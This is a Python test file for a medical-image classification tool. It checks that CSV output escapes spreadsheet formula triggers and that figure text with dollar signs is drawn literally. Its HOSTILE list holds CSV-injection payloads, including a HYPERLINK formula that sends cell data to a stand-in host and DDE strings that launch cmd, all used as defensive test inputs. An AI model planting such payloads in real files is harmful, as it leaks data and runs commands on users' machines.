"""What distmed writes is safe to open: CSV cells never run as spreadsheet formulas (issue
37 item 4, OWASP "CSV Injection"). Every CSV is read back as a spreadsheet would see it. No Ray.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import numpy as np
import pytest
import torch
from conftest import saved_record, write_image_folder
from PIL import Image

from distmed import predict
from distmed.artifacts import csv_cell
from distmed.model import build_model
from distmed.results import TrialRow, write_trials_csv
from distmed.task import task_for

SIZE = 16
# Names a user may give (a folder, a file), each starting with a formula trigger.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as handle:
        return list(csv.DictReader(handle))


def _is_formula(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_that_starts_a_formula_is_prefixed_with_a_quote(text: str):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-0.5, -3, 0.25, float("nan"), float("-inf"), "-0.5", "+3"])
def test_numbers_stay_numbers(value):
    assert csv_cell(value) is value  # a number is read as a number, never run


def test_trials_csv_neutralises_text_and_keeps_negative_numbers(tmp_path: Path):
    rows = [
        TrialRow(
            trial_id="t1",
            status="errored",
            params={"optim.name": HOSTILE[0], "model.bias": -0.5},
            cv_roc_auc=float("nan"),
            cv_roc_auc_std=float("nan"),
            cv_roc_auc_se=float("nan"),
            fold_aucs=[],
            fold_epochs=[],
            epochs_reported=0,
            time_s=1.0,
            error=HOSTILE[3],
        )
    ]
    write_trials_csv(tmp_path / "trials.csv", rows, ["optim.name", "model.bias"])
    (record,) = _read(tmp_path / "trials.csv")
    assert record["optim.name"] == "'" + HOSTILE[0]
    assert record["error"] == "'" + HOSTILE[3]
    assert float(record["model.bias"]) == -0.5  # still a number in the spreadsheet
    assert not any(_is_formula(cell) for cell in record.values() if cell != "-0.5")


def test_predict_csv_neutralises_class_and_file_names(tmp_path: Path):
    classes = [HOSTILE[0], HOSTILE[1]]
    saved = saved_record(SIZE, classes)
    model = tmp_path / "best_model.pt"
    torch.manual_seed(0)
    saved.save(model, build_model(saved.config.model, 2).state_dict())
    images = tmp_path / "images"
    images.mkdir()
    names = ["-2+3.png", "@cmd.png", "=1+1.png"]
    for k, name in enumerate(names):
        pixels = np.full((SIZE, SIZE), 40 * k, dtype=np.uint8)
        Image.fromarray(pixels).save(images / name)
    (images / "=broken.png").write_bytes(b"not an image")  # an error row names it too
    out = tmp_path / "p.csv"
    code = predict.main(["--model", str(model), str(images), "--output", str(out)])
    assert code == 3  # some files unreadable (named in the CSV), the rest scored
    records = _read(out)
    assert len(records) == 4
    for record in records:
        for key, cell in record.items():
            assert not _is_formula(cell), (key, cell)
            assert not _is_formula(key), key
    by_file = {Path(r["path"].lstrip("'")).name: r for r in records}
    assert set(by_file) == {*names, "=broken.png"}
    scored = by_file["-2+3.png"]
    assert scored["predicted_class"] in {"'" + c for c in classes}
    probs = [float(scored[f"prob_{c}"]) for c in classes]
    assert sum(probs) == pytest.approx(1.0, abs=1e-5)
    assert by_file["=broken.png"]["error"]


# --------------------------------------------------------------------------- figure text

# Valid folder names that matplotlib would read as mathtext (issue 37 item 6); the last
# is not even valid mathtext, so parsing it crashes the figure.
DOLLAR_NAMES = ["$x$", "a$b$c", "50$", r"$\frac{$"]


@pytest.mark.parametrize("name", [*DOLLAR_NAMES, r"a\$b", "plain"])
def test_literal_text_is_drawn_as_written(name: str):
    from matplotlib import cbook

    from distmed.plots import literal

    shown = literal(name)
    assert not cbook.is_math_text(shown)  # never typeset
    assert shown.replace(r"\$", "$") == name  # what Text draws for non-math text


@pytest.fixture
def real_figures(monkeypatch: pytest.MonkeyPatch):
    from distmed import plots

    monkeypatch.setattr(plots, "DPI", 20)  # still rendered (mathtext runs at draw time)
    return plots


def _written(path: Path) -> bool:
    return path.is_file() and all(path.with_suffix(f".{ext}").is_file() for ext in ("svg", "pdf"))


@pytest.mark.parametrize("binary", [True, False])
def test_every_test_split_figure_is_written_with_dollar_class_names(
    real_figures, tmp_path: Path, binary: bool
):
    plots = real_figures
    names = DOLLAR_NAMES[2:] if binary else DOLLAR_NAMES
    task = task_for(names)
    rng = np.random.default_rng(0)
    labels = np.tile(np.arange(len(names)), 6)
    probs = rng.dirichlet(np.ones(len(names)), size=len(labels))
    title = "site $a$"
    paths = [
        plots.plot_roc(labels, probs, task, tmp_path / "roc.png", (0.2, 0.7), title),
        plots.plot_precision_recall(labels, probs, task, tmp_path / "pr.png", title),
        plots.plot_calibration(labels, probs, task, tmp_path / "c.png", title=title),
        plots.plot_calibration(
            labels, probs, task, tmp_path / "c2.png", after_probs=probs, title=title
        ),
        plots.plot_confusion(
            np.eye(len(names), dtype=int) * 3, names, f"argmax of {names[0]}", tmp_path / "m.png"
        ),
    ]
    assert all(_written(p) for p in paths)


def test_every_search_figure_is_written_with_dollar_text(real_figures, tmp_path: Path):
    plots = real_figures
    aucs = [0.6, 0.7, 0.8]
    params = {"model.$x$": ["$a$", "a$b$c", "50$"], "optim.lr": [1e-4, 1e-3, 1e-2]}
    tiles = [(np.zeros((8, 8, 3), dtype=np.uint8), f"{name} -> {name}") for name in DOLLAR_NAMES]
    history = [{"epoch": 1, "train_loss": 1.0, "val_loss": float("nan"), "val_roc_auc": 0.5}]
    paths = [
        plots.plot_search_progress(aucs, ["completed"] * 3, tmp_path / "s.png", "trial $n$"),
        plots.plot_params(params, aucs, 2, tmp_path / "p.png"),
        plots.plot_fold_aucs(aucs, tmp_path / "f.png"),
        plots.plot_training_curves([history, history], tmp_path / "t.png"),
        plots.plot_gradcam_grid(tiles, 2, "layer$4$", tmp_path / "g.png"),
    ]
    assert all(_written(p) for p in paths)


def test_evaluate_with_dollar_class_folders_writes_its_record(real_figures, tmp_path: Path):
    from distmed import evaluate

    classes = sorted([r"$\frac{$", "a$b$c"])
    saved = saved_record(SIZE, classes)
    model = tmp_path / "run" / "best_model.pt"
    model.parent.mkdir()
    torch.manual_seed(0)
    saved.save(model, build_model(saved.config.model, 2).state_dict())
    site = write_image_folder(tmp_path / "site", {c: 4 for c in classes}, size=SIZE)
    out = tmp_path / "eval"
    argv = ["--model", str(model), "--data", str(site), "--bootstrap", "20", "--output", str(out)]
    assert evaluate.main(argv) == 0
    record = json.loads((out / evaluate.EVALUATION_JSON).read_text())
    assert record["images_per_class"] == {c: 4 for c in classes}
    assert all(_written(out / "figures" / f"{stem}.png") for stem in ("roc", "pr", "confusion"))
